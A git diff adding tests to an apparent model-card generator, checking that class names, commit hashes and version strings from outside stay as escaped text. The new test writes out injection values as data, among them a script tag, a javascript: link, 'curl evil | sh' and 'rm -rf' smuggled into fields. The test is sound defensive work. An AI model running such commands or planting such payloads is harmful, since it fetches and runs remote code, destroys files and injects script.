@@ -4,6 +4,7 @@ import pytest
 from made_run import make_run
 from program import TINY, start
 
+from cifar_lightning.formatting import markdown
 from cifar_lightning.report.model_card import NAME, write_model_card
 
 CARD = {"file": "model.onnx", "format": "onnx", "class_names": ["ant", "bee|2"], "image_size": 32, "epoch": 3}
@@ -29,7 +30,7 @@ def test_the_cards_numbers_are_the_reports(run):
     assert f"| bee\\|2 | {row['support']} | {100 * row['precision']:.1f} % | {100 * row['recall']:.1f} % |" in text
     for insight in findings["insights"]:
         for item in insight["items"]:
-            assert item["text"] in text
+            assert markdown(item["text"]) in text
     assert "`model.onnx` takes `images`: RGB, uint8 0-255, shape (batch, 3, 32, 32)" in text
     assert "returns logits and probs, shape (batch, 2)" in text
     assert "git checkout c0ffee" in text
@@ -107,3 +108,22 @@ def test_a_card_that_somebody_edited_is_made_again(run):
     assert write_model_card(run, {**CARD, "file": "other.onnx"}, run.path).read_text(encoding="utf-8") == text.replace(
         "model.onnx", "other.onnx"
     )
+
+
+def test_names_and_commits_from_outside_stay_text(tmp_path):
+    names = ("<script>alert(1)</script>", "a](javascript:x) `b` | c\n# d")
+    run = make_run(tmp_path / "run", names=names, n=400)
+    environment = json.loads(run.environment.read_text())
+    environment["commit"] = "x; curl evil | sh"
+    environment["versions"] = {"torch": "2.10\ncurl evil | sh"}
+    run.environment.write_text(json.dumps(environment))
+    card = {**CARD, "class_names": list(names), "file": "a`b; rm -rf x.safetensors", "images": ""}
+    text = write_model_card(run, card, run.path).read_text(encoding="utf-8")
+    body = text.partition("-->")[2]
+    assert r"\<script>" in body
+    assert body.count("<script>") == body.count(r"\<script>")
+    assert "](javascript:" not in body.replace(r"\](javascript:", "")
+    assert "\n# d" not in body
+    assert "``python train.py fit --init_weights 'a`b; rm -rf x.safetensors'``" in body
+    lines = body.rpartition("## Training")[2].splitlines()
+    assert not any(line.startswith(("curl", "git checkout x")) for line in lines)
